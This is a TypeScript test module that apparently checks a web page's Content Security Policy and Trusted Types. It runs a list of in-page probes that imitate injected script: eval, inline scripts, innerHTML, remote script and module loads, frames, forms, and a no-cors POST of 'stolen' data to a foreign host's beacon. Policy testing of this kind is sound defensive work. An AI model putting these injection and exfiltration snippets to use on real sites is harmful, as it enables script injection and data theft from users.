// What a script that slipped into the page would try. Each runs in the page and tells whether it got through.

/** What an attack is given. */
export interface AttackSpace {
  /** Another host's address, which answers everyone. */
  readonly foreign: string;
}

/** Tries something; true when it got through. */
export type Attack = (space: AttackSpace) => Promise<boolean>;

/** Waits until a thing is loaded or refused. */
const loads = `(thing) => new Promise((done) => {
  thing.addEventListener("load", () => done(true));
  thing.addEventListener("error", () => done(false));
})`;

/**
 * Attacks by name, as source: they run as timers of the page, since what a debugger evaluates is
 * exempt from the policy.
 */
export const ATTACKS: Readonly<Record<string, string>> = {
  "eval of a text": `() => { eval("window.broken = 1"); return window.broken === 1; }`,
  "a function made of a text": `() => new Function("return 1")() === 1`,
  "a timer made of a text": `() => new Promise((done) => {
    window.timed = () => done(true);
    setTimeout("timed()", 0);
    setTimeout(() => done(false), 300);
  })`,
  "an inline script": `() => {
    const script = document.createElement("script");
    script.text = "window.inline = 1";
    document.body.append(script);
    return window.inline === 1;
  }`,
  "an event handler in an attribute": `() => {
    const button = document.createElement("button");
    button.setAttribute("onclick", "window.clicked = 1");
    button.click();
    return window.clicked === 1;
  }`,
  "markup through innerHTML": `() => {
    const place = document.createElement("div");
    place.innerHTML = "<b>x</b>";
    return place.firstChild !== null;
  }`,
  "markup through insertAdjacentHTML": `() => {
    const place = document.createElement("div");
    place.insertAdjacentHTML("beforeend", "<b>x</b>");
    return place.firstChild !== null;
  }`,
  "markup through document.write": `() => {
    const other = document.implementation.createHTMLDocument("");
    other.write("<b>x</b>");
    return true;
  }`,
  "a policy of its own for trusted types": `() => {
    trustedTypes.createPolicy("mine", { createHTML: (text) => text });
    return true;
  }`,
  "a second policy with our name": `() => {
    trustedTypes.createPolicy("pleura", { createScriptURL: (text) => text });
    return true;
  }`,
  "a script of another host": `({ foreign }) => {
    const script = document.createElement("script");
    const loaded = (${loads})(script);
    script.src = foreign + "x.js";
    document.body.append(script);
    return loaded;
  }`,
  "a module of another host": `async ({ foreign }) => { await import(foreign + "x.js"); return true; }`,
  "a fetch from another host": `async ({ foreign }) => (await fetch(foreign + "x.json")).ok`,
  "a fetch that wants no answer": `async ({ foreign }) => {
    await fetch(foreign + "beacon", { mode: "no-cors", method: "POST", body: "stolen" });
    return true;
  }`,
  "a web socket": `({ foreign }) => new Promise((done) => {
    const socket = new WebSocket(foreign.replace("http", "ws"));
    socket.onopen = () => done(true);
    socket.onerror = () => done(false);
  })`,
  "an event source": `({ foreign }) => new Promise((done) => {
    const source = new EventSource(foreign + "x.events");
    source.onopen = () => { source.close(); done(true); };
    source.onerror = () => { source.close(); done(false); };
  })`,
  "a picture of another host": `({ foreign }) => {
    const picture = new Image();
    const loaded = (${loads})(picture);
    picture.src = foreign + "x.svg";
    return loaded;
  }`,
  "a style of another host": `({ foreign }) => {
    const link = document.createElement("link");
    const loaded = (${loads})(link);
    Object.assign(link, { rel: "stylesheet", href: foreign + "x.css" });
    document.head.append(link);
    return loaded;
  }`,
  "a style in the page": `() => {
    const style = document.createElement("style");
    style.textContent = "#styled { width: 3px }";
    document.head.append(style);
    const place = document.createElement("div");
    place.id = "styled";
    document.body.append(place);
    const through = getComputedStyle(place).width === "3px";
    place.remove();
    return through;
  }`,
  "a frame of another host": `({ foreign }) => {
    const frame = document.createElement("iframe");
    frame.src = foreign + "x.html";
    document.body.append(frame);
    return new Promise((done) => {
      addEventListener("message", ({ data }) => done(data === "framed"));
      setTimeout(() => done(false), 500);
    });
  }`,
  "a worker made of a text": `() => new Promise((done) => {
    const worker = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"])));
    worker.onmessage = () => done(true);
    worker.onerror = () => done(false);
  })`,
  "a form that sends to another host": `({ foreign }) => {
    const frame = document.createElement("iframe");
    frame.name = "target";
    const form = document.createElement("form");
    Object.assign(form, { action: foreign + "x.html", target: "target" });
    document.body.append(frame, form);
    form.submit();
    return new Promise((done) => {
      addEventListener("message", ({ data }) => done(data === "framed"));
      setTimeout(() => done(false), 500);
    });
  }`,
  "another base for addresses": `({ foreign }) => {
    const base = document.createElement("base");
    base.href = foreign;
    document.head.append(base);
    const through = document.baseURI === foreign;
    base.remove();
    return through;
  }`,
};

/** Runs an attack in the page as one of its own timers; a thrown error means that it was stopped. */
export function attackScript(source: string, space: AttackSpace): string {
  return `new Promise((done) => setTimeout(async () => {
    try { done(await (${source})(${JSON.stringify(space)})); } catch { done(false); }
  }, 0))`;
}
